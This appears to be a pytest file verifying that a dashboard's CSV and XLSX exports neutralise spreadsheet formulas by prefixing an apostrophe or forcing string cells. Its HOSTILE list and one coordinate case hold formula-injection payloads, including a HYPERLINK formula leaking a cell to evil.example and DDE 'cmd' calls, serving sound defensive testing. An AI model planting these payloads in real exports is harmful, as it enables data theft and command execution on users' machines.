"""Exports neutralise spreadsheet formulas: a text cell starting with = + - @ tab or CR is
written with a leading apostrophe in CSV and as an explicit string cell in XLSX. Read back
with the csv module and openpyxl, as a spreadsheet user's tools would read them."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from office.dashboard import export_columns, exports

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def row(value: str) -> dict:
    r = {c: None for c in exports.COLUMNS}
    r.update(envelope_id="e1", village=value, form_id=value, category="rekrutmen", lat=-1.25,
             answers_json='{"apa_dilihat": "%s"}' % value.replace('"', "'"))
    return r


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_are_text_not_formulas(value):
    table = list(csv.reader(io.StringIO(exports.to_csv([row(value)]).decode("utf-8-sig"))))
    got = dict(zip(table[1], table[2]))                 # row 1: Indonesian headers, row 2: column codes
    assert got["village"] == "'" + value and got["form_id"] == "'" + value
    assert got["lat"] == "-1.25"                        # numbers are numbers, not neutralised
    assert got["category"].startswith("Ajakan kerja")      # shown as its label


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_cells_are_strings_not_formulas(value):
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([row(value)]))).active
    _, codes, _ = export_columns.table([row(value)])     # row 1 holds the Indonesian headers
    cells = dict(zip(codes, ws[2]))
    # XML normalises a bare CR to LF when the file is read back; the text is otherwise intact
    assert cells["village"].value in (value, value.replace("\r", "\n")) and cells["village"].data_type == "s"
    assert cells["form_id"].data_type == "s"
    assert all(c.data_type != "f" for c in ws[2])
    assert cells["lat"].value == -1.25 and cells["lat"].data_type == "n"


@pytest.mark.parametrize("value,out", [("-9.4612, 124.3721", "-9.4612, 124.3721"),    # GPS south of the equator
                                       ("4.137, -117.665", "4.137, -117.665"),
                                       ("-9.4612, 124.3721+cmd|' /C calc'!A0", "'-9.4612, 124.3721+cmd|' /C calc'!A0"),
                                       ("-2+3", "'-2+3"), ("-9.4, =1", "'-9.4, =1")])
def test_plain_coordinates_pass_anything_more_is_neutralised(value, out):
    assert exports.neutral(value) == out
